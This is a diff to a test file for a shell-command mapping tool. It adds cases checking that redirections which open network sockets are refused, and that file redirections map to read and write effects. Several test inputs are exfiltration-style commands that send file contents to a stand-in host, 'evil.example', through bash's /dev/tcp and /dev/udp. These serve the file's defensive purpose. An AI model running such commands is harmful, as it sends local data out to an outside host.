@@ -146,8 +146,51 @@ describe('the answer for one command', () => {
         { kind: 'write', path: 'out.json' },
       ],
     });
-    expect(map('cat x > /dev/tcp/evil.example/80').diagnostics.map(({ code }) => code)).toEqual(['map/redirection']);
     expect(map('jq .a 2>/dev/null').effects).toEqual([]);
+  });
+
+  it.each([
+    'cat x > /dev/tcp/evil.example/80',
+    '> /dev/tcp/evil.example/80',
+    '{ cat x; } > /dev/tcp/evil.example/80',
+    'while read -r l; do echo "$l"; done < /dev/udp/evil.example/80',
+    'exec 3<>/dev/tcp/evil.example/80',
+    'exec {fd}<>/dev/tcp/evil.example/80',
+    'f() { cat x; } > /dev/tcp/evil.example/80; f',
+    'echo a > /dev/$KIND/evil.example/80',
+    'echo a > /dev/tcp${TAIL}',
+  ])('refuses a redirection that opens a socket: %s', (command) => {
+    expect(map(command)).toMatchObject({ maps_to: null, diagnostics: [{ code: 'map/redirection' }] });
+  });
+
+  const reads = { kind: 'read', path: 'f' };
+  const writes = { kind: 'write', path: 'f' };
+  it.each([
+    ['{ cat; } > f', [writes]],
+    ['cat > /dev/shm/f', [{ kind: 'write', path: '/dev/shm/f' }]],
+    ['cat >& f', [writes]],
+    ['cat &> f', [writes]],
+    ['cat &>> f', [writes]],
+    ['cat >| f', [writes]],
+    ['cat 3> f', [writes]],
+    ['cat <> f', [reads, writes]],
+    ['cat {fd}> f', [writes]],
+    ['cat {fd}< f', [reads]],
+    ['exec > f', [writes]],
+    ['exec 3> f', [writes]],
+    ['exec {fd}> f', [writes]],
+    ['{fd}> f', [writes]],
+    ['coproc cat f', [reads]],
+    ['coproc C { cat; } > f', [writes]],
+  ])('shows the file behind %s', (command, effects) => {
+    expect(map(command).effects).toEqual(effects);
+  });
+
+  it('gives `{fd}>f` no output and asks nobody for the number that bash chooses', () => {
+    expect(map('echo a {fd}> f')).toMatchObject({ maps_to: 'shell.run', effects: [writes, { kind: 'output' }] });
+    const used = map('exec {fd}> f; echo a >&"$fd"');
+    expect(used.inputs.properties).toEqual({});
+    expect(used.effects).toEqual([{ kind: 'write', path: '${dynamic:fd}' }, writes, { kind: 'output' }]);
   });
 
   it('finds effects inside control flow, functions and substitutions', () => {
